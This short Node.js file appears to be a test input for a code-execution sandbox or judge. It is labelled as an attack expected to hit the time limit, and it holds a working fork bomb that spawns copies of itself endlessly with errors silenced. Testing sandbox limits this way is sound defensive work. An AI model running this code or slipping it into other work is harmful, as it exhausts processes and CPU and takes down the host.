// Attack: starts copies of itself without end.
// Verdict: time_limit_exceeded
const { spawn } = require('child_process');
const more = () => {
    for (let i = 0; i < 4; i++) spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
    setImmediate(more);
};
more();
